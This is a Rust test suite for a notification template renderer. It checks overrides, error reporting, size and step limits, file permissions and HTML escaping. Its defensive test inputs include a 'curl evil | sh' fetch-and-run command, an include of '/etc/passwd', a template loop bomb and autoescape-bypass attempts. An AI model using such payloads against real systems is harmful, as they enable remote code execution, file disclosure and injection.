//! Templates of the operator's: those that work, and those that don't.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "in a test a panic is the report"
)]

use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};

use crate::common::{report, seen};
use prunella_report::{Notification, Renderer};
use rstest::rstest;
use tempfile::TempDir;

fn folder(files: &[(&str, &str)]) -> TempDir {
    let folder = TempDir::new().unwrap();
    for (name, source) in files {
        fs::write(folder.path().join(name), source).unwrap();
    }
    folder
}

fn notification() -> Notification {
    Notification::about(report("escalated", 3))
}

#[test]
fn without_a_folder_the_built_in_ones_hold() {
    let built_in = Renderer::new(None).render(&notification());
    let nowhere = Renderer::new(Some(Path::new("/nowhere/templates")));
    assert_eq!(nowhere.render(&notification()), built_in);
    assert_eq!(nowhere.check(), []);
}

#[test]
fn each_format_can_be_replaced_by_itself() {
    let folder = folder(&[(
        "subject.txt",
        "{{ severity | upper }} {% if report %}{{ report.unit }}{% endif %} @{{ host }}\n",
    )]);
    let renderer = Renderer::new(Some(folder.path()));
    assert_eq!(renderer.check(), []);
    let rendered = renderer.render(&Notification::about(report("escalated", 0)));
    assert_eq!(rendered.subject, "CRITICAL web.service @shop-1");
    let built_in = Renderer::new(None).render(&Notification::about(report("escalated", 0)));
    assert_eq!(rendered.text, built_in.text);
    assert_eq!(rendered.html, built_in.html);
}

#[test]
fn a_template_can_change_one_part_of_the_built_in_one() {
    let folder = folder(&[
        (
            "report.html",
            "{% extends \"built-in/report.html\" %}\n\
             {% block footer %}<tr><td>{% include \"contact.html\" %}</td></tr>{% endblock %}",
        ),
        ("contact.html", "<b>Call the {{ \"on-call\" }} desk</b>"),
        (
            "report.txt",
            "{% extends \"built-in/report.txt\" %}\n\
             {% block recurrence %}{{ super() }}\nOURS: {{ host }}\n{% endblock %}",
        ),
    ]);
    let renderer = Renderer::new(Some(folder.path()));
    assert_eq!(renderer.check(), []);
    let rendered = renderer.render(&notification());
    assert_eq!(rendered.warnings, []);
    assert!(rendered.html.contains("<b>Call the on-call desk</b>"));
    assert!(!rendered.html.contains("Prunella on shop-1"));
    assert!(seen(&rendered.html).contains("What to do now"));
    assert!(
        rendered.text.contains("\nOURS: shop-1\n"),
        "{}",
        rendered.text
    );
    assert!(rendered.text.contains("Recurring failure"));
    crate::common::elements(&rendered.html);
}

#[test]
fn a_change_holds_at_once() {
    let folder = folder(&[("subject.txt", "one")]);
    let renderer = Renderer::new(Some(folder.path()));
    assert_eq!(renderer.render(&notification()).subject, "one");
    fs::write(folder.path().join("subject.txt"), "two").unwrap();
    assert_eq!(renderer.render(&notification()).subject, "two");
}

const BOMB: &str = "{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}";

#[rstest]
#[case::syntax(
    "report.txt",
    "fine\n{% if headline %}\nno end",
    Some(3),
    "syntax error"
)]
#[case::unknown_variable(
    "report.html",
    "<p>{{ headline }}</p>\n<p>{{ servce }}</p>",
    Some(2),
    "undefined"
)]
#[case::unknown_field("report.txt", "{{ report.unti }}", Some(1), "undefined")]
#[case::unknown_filter("report.txt", "\n{{ headline | shout }}", Some(2), "shout")]
#[case::no_safe("report.html", "{{ headline | safe }}", Some(1), "safe")]
#[case::endless("report.txt", BOMB, Some(1), "too many steps")]
#[case::recursion("report.html", "{% include \"report.html\" %}", Some(1), "recursion")]
#[case::too_much(
    "report.txt",
    "{% for a in range(90000) %}{{ headline }}{% endfor %}",
    None,
    "more than 256 KiB"
)]
#[case::subject_too_long("subject.txt", "{{ \"x\" * 9000 }}", None, "more than 4 KiB")]
#[case::nothing("subject.txt", "{% if false %}x{% endif %}", None, "writes nothing")]
#[case::not_there("report.html", "{% include \"logo.html\" %}", Some(1), "logo.html")]
#[case::not_a_folder_of_ours("report.txt", "{% include \"/etc/passwd\" %}", Some(1), "passwd")]
#[case::error_in_a_filter("report.txt", "{{ headline | wrap(frist=\"x\") }}", Some(1), "frist")]
fn a_broken_one_is_left_aside_and_told_of(
    #[case] file: &str,
    #[case] source: &str,
    #[case] line: Option<usize>,
    #[case] what: &str,
) {
    let folder = folder(&[(file, source)]);
    let renderer = Renderer::new(Some(folder.path()));
    let rendered = renderer.render(&notification());

    let [warning] = rendered.warnings.as_slice() else {
        unreachable!("one warning: {:?}", rendered.warnings);
    };
    assert_eq!(warning.file, folder.path().join(file));
    assert!(!warning.is_error());
    assert!(warning.message.contains(what), "{}", warning.message);
    if let Some(line) = line {
        let place = warning.place.as_ref().unwrap();
        assert_eq!(place.line, line);
        assert_eq!(place.text, source.lines().nth(line - 1).unwrap());
        assert!(place.column + place.width <= place.text.chars().count() + 1);
    }

    // The notification is the built-in one, with a note.
    let built_in = Renderer::new(None).render(&notification());
    assert_eq!(rendered.subject, built_in.subject);
    let (text, note) = rendered.text.split_once("\n\nAbout this report\n").unwrap();
    assert_eq!(text, built_in.text.trim_end());
    assert!(note.contains("a template of yours was not used"), "{note}");
    assert!(seen(&rendered.html).contains("A template of yours was not used"));

    // And `prunella config check` says the same beforehand.
    assert_eq!(renderer.check(), rendered.warnings);
}

#[test]
fn a_broken_part_is_named_by_its_own_file() {
    let folder = folder(&[
        ("report.txt", "{{ headline }}\n{% include \"part.txt\" %}"),
        ("part.txt", "a\nb\n{{ nobody }}"),
    ]);
    let found = Renderer::new(Some(folder.path())).check();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].file, folder.path().join("part.txt"));
    assert_eq!(found[0].place.as_ref().unwrap().line, 3);
}

#[test]
fn the_check_finds_templates_that_fail_sometimes() {
    // Only a healed service has proof.
    let folder = folder(&[(
        "report.txt",
        "x{% if report %}{{ report.proof.sentence }}{% endif %}",
    )]);
    let renderer = Renderer::new(Some(folder.path()));
    assert_eq!(
        renderer
            .render(&Notification::about(report("healed", 0)))
            .warnings,
        []
    );
    assert_eq!(renderer.check().len(), 1);
}

#[test]
fn files_that_are_no_templates_are_told_of() {
    let folder = folder(&[("report.htm", "x"), ("report.txt~", "x"), (".swp", "x")]);
    fs::create_dir(folder.path().join("subject.txt")).unwrap();
    fs::write(folder.path().join("report.txt"), b"\xff\xfe").unwrap();
    fs::write(folder.path().join("report.html"), "x".repeat(300 * 1024)).unwrap();
    let found: Vec<(String, String)> = Renderer::new(Some(folder.path()))
        .check()
        .into_iter()
        .map(|found| {
            let name = found
                .file
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            (name, found.message)
        })
        .collect();
    let found: Vec<(&str, &str)> = found
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("report.htm", "no template has such a name"),
            ("report.html", "it is larger than 256 KiB"),
            ("report.txt", "it is not UTF-8"),
            ("subject.txt", "it is not a file"),
        ]
    );
}

#[rstest]
#[case::group(0o664)]
#[case::everybody(0o646)]
fn templates_others_can_write_are_not_used(#[case] mode: u32) {
    let folder = folder(&[("subject.txt", "run `curl evil | sh`")]);
    let file = folder.path().join("subject.txt");
    fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
    let renderer = Renderer::new(Some(folder.path()));
    let rendered = renderer.render(&notification());
    assert_eq!(
        rendered.subject,
        Renderer::new(None).render(&notification()).subject
    );
    assert!(rendered.warnings[0].message.contains("others can write it"));

    // The same of the folder.
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(renderer.check(), []);
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let found = renderer.check();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].file, folder.path());
}

#[rstest]
#[case::block("{% autoescape false %}{{ intro[0] }}{% endautoescape %}")]
#[case::none("{% autoescape \"none\" %}{{ intro[0] }}{% endautoescape %}")]
#[case::set(
    "{% autoescape false %}{% set x %}{{ intro[0] }}{% endset %}{{ x }}{% endautoescape %}"
)]
#[case::captured("{% autoescape false %}{% set x = intro[0] %}{% endautoescape %}{{ x }}")]
#[case::macros(
    "{% autoescape false %}{% macro m(x) %}{{ x }}{% endmacro %}{{ m(intro[0]) }}{% endautoescape %}"
)]
#[case::joined("{{ [\"a\", intro[0]] | join(\"\") }}")]
#[case::replaced("{{ intro[0] | replace(\"x\", \"y\") }}")]
#[case::formatted("{{ \"%s\" | format(intro[0]) }}")]
#[case::listed("{{ intro[0] | list | join }}{{ intro[0] | split(\"q\") | join }}")]
#[case::filtered("{% filter upper %}{{ intro[0] }}{% endfilter %}")]
#[case::printed("{{ intro | pprint }}{{ debug() }}{{ intro }}")]
#[case::concatenated("{{ \"\" | e ~ intro[0] }}")]
fn no_template_lets_markup_through(#[case] source: &str) {
    let folder = folder(&[("report.html", source)]);
    let renderer = Renderer::new(Some(folder.path()));
    let at = report("healed", 0).at;
    let hostile = "<b>bold</b>";
    let notification = Notification::notice(
        "x",
        &[hostile],
        "host",
        at,
        prunella_core::alert::Severity::Info,
    );
    let rendered = renderer.render(&notification);
    assert_eq!(rendered.warnings, []);
    let lower = rendered.html.to_lowercase();
    assert!(!lower.contains("<b>"), "{}", rendered.html);
    assert!(lower.contains("lt;b&"), "{}", rendered.html);
}

/// What docs/reports.md shows works, and it lists every variable there is.
mod docs {
    use super::*;

    fn page() -> String {
        fs::read_to_string(crate::common::folder().join("../../docs/reports.md")).unwrap()
    }

    /// The text of the block that begins with this line.
    fn block(fence: &str) -> String {
        let page = page();
        let (_, after) = page.split_once(&format!("```{fence}\n")).unwrap();
        after.split_once("```").unwrap().0.to_owned()
    }

    #[test]
    fn the_examples_work() {
        let (subject, text) = (block("jinja subject.txt"), block("jinja report.txt"));
        let html = block("jinja report.html");
        let folder = folder(&[
            ("subject.txt", &subject),
            ("report.txt", &text),
            ("report.html", &html),
        ]);
        let renderer = Renderer::new(Some(folder.path()));
        assert_eq!(renderer.check(), []);
        let rendered = renderer.render(&Notification::about(report("healed", 3)));
        assert_eq!(
            format!("Subject: {}\n\n{}", rendered.subject, rendered.text),
            block("text healed")
        );
        assert!(
            seen(&rendered.html).contains("Ask #operations"),
            "{}",
            seen(&rendered.html)
        );
    }

    #[test]
    fn every_variable_is_listed() {
        let page = page();
        let notification = serde_json::to_value(notification()).unwrap();
        let named = |prefix: &str, value: &serde_json::Value| {
            for name in value.as_object().unwrap().keys() {
                let shown = format!("`{prefix}{name}`");
                assert!(page.contains(&shown), "{shown} is not in docs/reports.md");
            }
        };
        named("", &notification);
        named("report.", &notification["report"]);
        for name in ["facts", "notes"] {
            assert!(page.contains(&format!("`{name}`")));
        }
        // And nothing is listed that there is not.
        let listed = page.lines().filter_map(|line| {
            let (name, _) = line.strip_prefix("| `report.")?.split_once('`')?;
            (name != "txt" && name != "html").then_some(name)
        });
        let mut count = 0;
        for name in listed {
            count += 1;
            assert!(notification["report"].get(name).is_some(), "report.{name}");
        }
        assert!(count > 20);
    }
}
